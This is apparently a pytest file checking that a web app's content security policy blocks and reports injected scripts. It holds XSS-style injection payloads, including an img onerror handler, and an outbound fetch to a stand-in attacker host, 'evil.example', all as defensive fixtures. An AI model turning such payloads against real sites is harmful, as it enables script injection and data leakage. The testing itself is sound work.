"""The browser itself watches that nothing but our own scripts runs, and tells us when it stopped something.

That no page of any role breaks the policy is seen on the walk of test_every_page_is_accessible.py.
"""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(
    ("injected", "rule"),
    [
        ("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
         "script-src-elem"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror=\"window.ran = 1\">')",
         "script-src-attr"),
        ("const s = document.createElement('script'); s.src = '/static/none.js'; document.body.append(s)",
         "script-src-elem"),
    ],
)  # fmt: skip
def test_an_injected_script_does_not_run_and_is_reported_once(
    here, worker, path, told, soon, injected, rule
):
    page = here.sign_in(worker)
    page.goto(f"{here.base}/clients/{path.client.ref}/")

    page.evaluate(f"() => {{ {injected} }}")

    soon(told)
    page.wait_for_load_state("networkidle")
    (line,) = told()
    assert rule in line
    assert line.endswith("on pathways:client")
    assert str(path.client.ref) not in line
    assert page.evaluate("window.ran") is None


def test_a_page_cannot_be_sent_or_asked_of_elsewhere(here, worker, told, soon):
    page = here.sign_in(worker)

    asked = page.evaluate(
        "() => fetch('https://evil.example/?q=1').then(() => 'went', () => 'stopped')"
    )

    assert asked == "stopped"
    soon(told)
    assert told() == ["content policy: connect-src stopped https://evil.example on pathways:home"]
